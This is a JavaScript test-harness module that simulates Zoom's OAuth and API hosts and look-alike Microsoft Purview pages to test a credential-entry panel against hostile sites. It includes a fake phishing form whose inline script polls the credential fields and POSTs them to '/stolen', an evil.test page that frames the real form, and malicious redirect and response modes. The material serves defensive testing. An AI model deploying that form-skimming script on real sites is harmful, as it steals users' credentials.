// Shared by checks on secrets, faults, forms and the two walks: canaries, sites, the panel by its contract names, a tally.
import { randomBytes, randomInt } from 'node:crypto';
import net from 'node:net';
import tls from 'node:tls';
import { launch, panel, serve, sleep } from './browser.mjs';
import { freshPurview, purview, tokenVerdict } from './purview/index.mjs';
import { freshRole, role, sharing } from './role/index.mjs';

export const FORM = 'https://purview.microsoft.com/compliancemanager/connectors/zoom';
export const SECOND = 1000;

/** Realistic credentials, new per run. The secret has a digit in every slice of three, so that no page text holds a slice by chance. */
export function canary() {
  const low = 'abcdefghjkmnpqrstvwxyz',
    up = 'ABCDEFGHJKMNPQRSTVWXYZ',
    dig = '23456789',
    of = (s) => s[randomInt(s.length)];
  const clientSecret = Array.from({ length: 32 }, (_, i) => (i % 3 === 1 ? of(dig) : of(i % 2 ? up : low))).join('');
  const id = () => {
    let v;
    do v = randomBytes(17).toString('base64url').slice(0, 22);
    while (!/^[A-Za-z0-9]/.test(v) || !/\d/.test(v));
    return v;
  };
  return { accountId: id(), clientId: id(), clientSecret };
}

// ---- a tally that always counts the same number of checks
export class Tally {
  constructor(name, secrets = []) {
    this.name = name;
    this.done = new Map();
    this.planned = new Map();
    this.secrets = secrets;
    this.started = Date.now();
    setTimeout(() => {
      for (const id of this.planned.keys())
        if (!this.done.has(id)) this.check(id, false, 'the whole check is out of time');
      this.finish();
    }, 56500).unref();
  }
  clean(text) {
    return this.secrets
      .reduce((t, s) => (s ? t.replaceAll(s, '<secret>') : t), String(text))
      .replace(/\s+/g, ' ')
      .slice(0, 300);
  }
  check(id, ok, detail = '') {
    if (this.done.has(id)) return;
    this.done.set(id, !!ok);
    console.log(
      `${ok ? 'PASS' : 'FAIL'} ${id} ${this.planned.get(id) ?? ''}${detail && !ok ? ` -- ${this.clean(detail)}` : ''}`,
    );
  }
  note(text) {
    console.log(`note ${this.clean(text)}`);
  }
  /** plan: {id: words}. What the group did not reach within its time is a failure. */
  async group(name, ms, plan, work) {
    for (const [id, words] of Object.entries(plan)) this.planned.set(id, words);
    const only = process.env.ONLY;
    if (only && !only.split(',').includes(name)) {
      for (const id of Object.keys(plan)) this.planned.delete(id);
      return;
    }
    const began = Date.now();
    let why = 'not reached';
    let timer;
    try {
      await Promise.race([
        work(),
        new Promise((_, no) => {
          timer = setTimeout(() => no(new Error(`time-box of ${ms / 1000} s`)), ms);
        }),
      ]);
    } catch (error) {
      why = String(error?.message ?? error).split('\n')[0];
    } finally {
      clearTimeout(timer);
    }
    for (const id of Object.keys(plan)) if (!this.done.has(id)) this.check(id, false, `${name}: ${why}`);
    if (process.env.VERBOSE) console.log(`     (${name}: ${((Date.now() - began) / 1000).toFixed(1)} s)`);
  }
  finish() {
    const all = [...this.done.values()],
      passed = all.filter(Boolean).length;
    console.log(`${this.name}: ${passed} passed, ${all.length - passed} failed of ${all.length}`);
    process.exit(passed === all.length && all.length ? 0 : 1);
  }
}

// ---- the sites
const okBody = {
  access_token: 'eyJhbGciOiJIUzUxMiJ9.c3RhbmQtaW4.x',
  token_type: 'bearer',
  expires_in: 3599,
  scope:
    'user:read:list_users:admin user:read:user:admin account:read:settings:admin account:read:admin user:read:admin user:read:settings:admin',
  api_url: 'https://api.zoom.us',
};
/** Zoom's token endpoint and API with world.token.mode deciding what happens; world.token.log keeps each request. */
function zoomBackend() {
  return {
    hosts: ['zoom.us', 'api.zoom.us'],
    async handle(req, res, world) {
      const t = world.token,
        url = new URL(req.url, 'https://zoom.us'),
        host = req.headers.host.replace(/:\d+$/, '');
      const json = (body, status = 200, head = {}) => {
        res.writeHead(status, { 'content-type': 'application/json', ...head });
        res.end(typeof body === 'string' ? body : JSON.stringify(body));
      };
      if (host === 'api.zoom.us') {
        t.api.push({ url: req.url, headers: req.headers, at: Date.now() });
        return /users/.test(req.url)
          ? json({ page_size: 1, total_records: 1, users: [{ id: 'u1', email: 'a@example.com' }] })
          : json({ id: 'x', security: {} });
      }
      if (url.pathname !== '/oauth/token') {
        if (url.pathname.startsWith('/elsewhere')) {
          t.elsewhere.push({ host, url: req.url, method: req.method, headers: req.headers });
          return json(okBody);
        }
        return undefined;
      }
      const entry = {
        at: Date.now(),
        method: req.method,
        url: req.url,
        headers: req.headers,
        body: req.body,
        mode: t.mode,
        closed: null,
        sent: 0,
      };
      t.log.push(entry);
      res.on('close', () => {
        entry.closed = Date.now();
      });
      res.taken = true;
      const m = t.mode;
      if (m.startsWith('redirect')) {
        const [, code, kind] = m.split('-');
        res.writeHead(+code, {
          location: kind === 'same' ? 'https://zoom.us/elsewhere' : 'https://evil.test/elsewhere',
        });
        return res.end('{}');
      }
      if (m === 'silent') return undefined;
      if (m.startsWith('hold')) {
        const ms = +m.split('-')[1];
        await sleep(ms);
        if (res.destroyed) return undefined;
        return json(okBody);
      }
      if (m === 'bomb' || m === 'drip') {
        res.writeHead(200, { 'content-type': 'application/json' });
        res.write('{"access_token":"');
        const gone = new Promise((go) => {
          res.once('close', go);
        });
        const piece = m === 'drip' ? Buffer.from('a') : Buffer.alloc(65536, 97);
        while (!res.destroyed && entry.sent < 400 * 2 ** 20) {
          const more = res.write(piece);
          entry.sent += piece.length;
          if (m === 'drip') await sleep(900);
          else if (!more)
            await Promise.race([
              gone,
              new Promise((go) => {
                res.once('drain', go);
              }),
            ]);
        }
        return res.end();
      }
      if (m === 'raw') return json(t.raw);
      if (m === 'html') {
        res.writeHead(200, { 'content-type': 'text/html' });
        return res.end('<html><body>Sign in to continue</body></html>');
      }
      if (m === 'status') return json(t.body ?? {}, t.status, t.head ?? {});
      if (m === 'cookie')
        return json(okBody, 200, { 'set-cookie': 'trap=1; Domain=zoom.us; Path=/; Secure; SameSite=None' });
      if (m === 'apiurl') return json({ ...okBody, api_url: 'https://evil.test' });
      const [id, ...rest] = Buffer.from((req.headers.authorization ?? '').replace(/^Basic /i, ''), 'base64')
        .toString()
        .split(':');
      const form = new URLSearchParams(req.body);
      const verdict = tokenVerdict(world, {
        clientId: id,
        clientSecret: rest.join(':'),
        accountId: form.get('account_id') ?? url.searchParams.get('account_id'),
      });
      return json(verdict.status === 200 ? okBody : verdict.body, verdict.status);
    },
  };
}
const market = {
  hosts: ['marketplace.zoom.us'],
  handle(_req, res) {
    res.setHeader('content-type', 'text/html');
    res.end(
      '<!doctype html><title>App Marketplace</title><body><header><a href="#d">Develop</a></header><main><h1>Discover</h1><p>Find apps.</p></main></body>',
    );
  },
};
const evilForm = (
  top,
) => `<!doctype html><title>Purview</title><body><h1>Authentication</h1><form>${['Account ID', 'Client ID', 'Client secret'].map((l, i) => `<p><label>${l} <input id="f${i}" ${i === 2 ? 'type="password"' : ''}></label></p>`).join('')}<button type="button">Validate connection</button></form>
<script>setInterval(()=>{const v=[...document.querySelectorAll('input')].map(i=>i.value);if(v.some(Boolean))fetch('/stolen',{method:'POST',body:JSON.stringify({where:${JSON.stringify(top)},v})})},50)</script>`;
/** Every other host: look-alikes serve the very same portal, with its state in world.fake; evil.test frames and imitates. */
const elsewhere = {
  hosts: { includes: () => true },
  async handle(req, res, world) {
    const url = new URL(req.url, 'https://x');
    if (url.pathname === '/stolen') {
      world.stolen.push(JSON.parse(req.body));
      return res.end();
    }
    if (url.pathname.startsWith('/elsewhere')) {
      world.token.elsewhere.push({ host: req.headers.host, url: req.url, method: req.method, headers: req.headers });
      return res.end('{}');
    }
    if (url.pathname === '/top') {
      res.setHeader('content-type', 'text/html');
      return res.end(
        `<!doctype html><title>Offer</title><h1>Offer</h1><iframe title="p" style="width:1000px;height:700px" src="${FORM}"></iframe>`,
      );
    }
    if (url.pathname === '/form') {
      res.setHeader('content-type', 'text/html');
      return res.end(evilForm('evil frame'));
    }
    const fake = { ...world, purview: world.fake };
    await purview().handle(req, res, fake);
    world.fake = fake.purview;
    return undefined;
  },
};

export async function openSite({ creds, knobs = {}, extra = [] } = {}) {
  const world = {
    purview: freshPurview({ popups: false, shimmer: 150, validateMs: 250, ...knobs }),
    fake: freshPurview({ popups: false, shimmer: 50, start: { wizard: 'auth' } }),
    role: freshRole(),
    stolen: [],
    apps: [{ ...creds, activated: true, scopes: okBody.scope.split(' ') }],
    token: { mode: 'ok', log: [], api: [], elsewhere: [] },
  };
  const inner = await serve(
    [
      ...extra,
      { ...purview() },
      sharing(['zoom.us', 'acme.zoom.us', 'api.zoom.us'], zoomBackend(), role({ hosts: ['zoom.us', 'acme.zoom.us'] })),
      market,
      elsewhere,
    ],
    world,
  );
  const front = net.createServer((sock) =>
    sock.once('data', (first) => {
      // plain HTTP arrives at the same door as TLS
      const up =
        first[0] === 22
          ? net.connect(inner.port, '127.0.0.1')
          : tls.connect({ port: inner.port, host: '127.0.0.1', rejectUnauthorized: false });
      up.on('error', () => sock.destroy());
      sock.on('error', () => up.destroy());
      up.on('close', () => sock.destroy());
      sock.on('close', () => up.destroy());
      up.write(first);
      sock.pipe(up).pipe(sock);
    }),
  );
  await new Promise((done) => front.listen(0, '127.0.0.1', done));
  return {
    world,
    port: front.address().port,
    close: () => {
      front.close();
      return inner.close();
    },
  };
}

export async function openBrowser(site, options = {}) {
  const b = await launch({ port: site.port, ...options });
  b.console = [];
  b.urls = [];
  const watch = (page) => {
    page.on('console', (m) => b.console.push(m.text()));
    page.on('pageerror', (e) => b.console.push(String(e?.stack ?? e)));
    page.on('framenavigated', (f) => b.urls.push(f.url()));
    page.on('dialog', (d) => d.dismiss().catch(() => {}));
  };
  b.context.pages().forEach(watch);
  b.context.on('page', watch);
  for (const w of [b.worker]) w?.on?.('console', (m) => b.console.push(m.text()));
  b.context.on('serviceworker', (w) => w.on?.('console', (m) => b.console.push(m.text())));
  return b;
}

// ---- the panel, by the names that the contract gives
export const button = (p, name) => p.getByRole('button', { name, exact: true }).first();
const box = (p, name) =>
  p
    .getByRole('textbox', { name, exact: true })
    .or(p.getByLabel(name, { exact: true }))
    .first();
export async function regionText(p, name) {
  const r = p.getByRole('region', { name, exact: true });
  return (await r.count())
    ? (
        await r
          .first()
          .innerText()
          .catch(() => '')
      )
        .replace(/\s+/g, ' ')
        .trim()
    : '';
}
export async function openPanel(b) {
  const p = await panel(b);
  await p.waitForLoadState('domcontentloaded');
  return p;
}

/** A real click, with the host page as the tab used last before it. */
export async function press(p, name, page, ms = 5000) {
  if (page) {
    await page.bringToFront();
    await sleep(60);
  }
  await p.bringToFront();
  await button(p, name).click({ timeout: ms });
}
export async function startGuide(p, page) {
  await press(p, 'Start guide', page);
  await sleep(250);
  if (page) await page.bringToFront();
}
export async function enter(p, creds, page) {
  if (page) {
    await page.bringToFront();
    await sleep(40);
  }
  await p.bringToFront();
  if (
    !(await box(p, 'Client secret')
      .isVisible()
      .catch(() => false))
  ) {
    if (!(await usable(p, 'Enter credentials yourself')) && (await usable(p, 'Forget credentials'))) {
      await button(p, 'Forget credentials').click();
      await sleep(250);
    } // some want the old ones gone first
    await button(p, 'Enter credentials yourself').click({ timeout: 5000 });
  }
  for (const [name, value] of [
    ['Account ID', creds.accountId],
    ['Client ID', creds.clientId],
    ['Client secret', creds.clientSecret],
  ])
    await box(p, name).fill(value, { timeout: 4000 });
  await button(p, 'Use these credentials').click({ timeout: 4000 });
  await sleep(250);
}
export const usable = async (p, name) => {
  const b = button(p, name);
  return (
    (await b.count()) > 0 &&
    (await b.isVisible()) &&
    (await b.isEnabled()) &&
    (await b.getAttribute('aria-disabled')) !== 'true' &&
    (await b.getAttribute('aria-busy')) !== 'true'
  );
};
export async function until(test, ms = 5000, step = 60) {
  const end = Date.now() + ms;
  let v;
  do {
    v = await test();
    if (v) return v;
    await sleep(step);
  } while (Date.now() < end);
  return v;
}

/** Presses Check connection and waits for an outcome: {text, busy, ms, settled}. busyText is what it says while it waits. */
export async function runCheck(p, { ms = 21 * SECOND, busyText } = {}) {
  await p.bringToFront();
  await until(() => usable(p, 'Check connection'), 4000);
  const before = await regionText(p, 'Connection check'),
    began = Date.now();
  await button(p, 'Check connection').click({ timeout: 4000 });
  return waitOutcome(p, 'Check connection', 'Connection check', { before, began, ms, busyText });
}
export async function waitOutcome(
  p,
  name,
  region,
  { before = '', began = Date.now(), ms = 21 * SECOND, busyText } = {},
) {
  let text = '',
    since = Date.now(),
    busy = '';
  while (Date.now() - began < ms) {
    const now = await regionText(p, region),
      ready = await usable(p, name);
    if (now !== text) {
      text = now;
      since = Date.now();
    }
    if (!ready && now) busy = now;
    const calm = Date.now() - since > 350 && Date.now() - began > 300;
    if (ready && calm && text && text !== busyText && (text !== before || Date.now() - began > 1500))
      return { text, busy, ms: Date.now() - began, settled: true };
    if (!ready && calm && text && busyText && text !== busyText && Date.now() - since > 1500)
      return { text, busy, ms: Date.now() - began, settled: true };
    await sleep(50);
  }
  return { text, busy, ms: Date.now() - began, settled: false };
}
export const sameForm = (form, c) =>
  form && form.accountId === c.accountId && form.clientId === c.clientId && form.clientSecret === c.clientSecret;
export const emptyForm = (form) =>
  !form || (!form.accountId && !form.clientId && !form.clientSecret && !form.clientSecret2);
/** How often the secret was put into the form: rising edges of its field. */
export const fillCount = (fills, c) =>
  fills.reduce(
    (n, f, i) =>
      n + (f.clientSecret === c.clientSecret && (fills[i - 1]?.clientSecret ?? '') !== c.clientSecret ? 1 : 0),
    0,
  );

/** Presses Hand off with that page as the last used one, gives the page the stage, waits for the predicate or for calm. */
export async function handOff(p, page, done = () => false, ms = 4000) {
  const before = await regionText(p, 'Hand-off');
  if (page) {
    await page.bringToFront();
    await sleep(60);
  }
  await p.bringToFront();
  let pressed = true;
  try {
    await until(() => usable(p, 'Hand off to Compliance Manager'), 1500);
    await button(p, 'Hand off to Compliance Manager').click({ timeout: 1200 });
  } catch {
    pressed = false;
  }
  const end = Date.now() + ms,
    front = Date.now() + 900;
  let fronted = false,
    ok = false;
  while (Date.now() < end) {
    ok = done();
    if (ok) break;
    if (!fronted && page && Date.now() > front) {
      await page.bringToFront();
      fronted = true;
    }
    await sleep(50);
  }
  await sleep(200);
  return { pressed, ok, before, text: await regionText(p, 'Hand-off') };
}
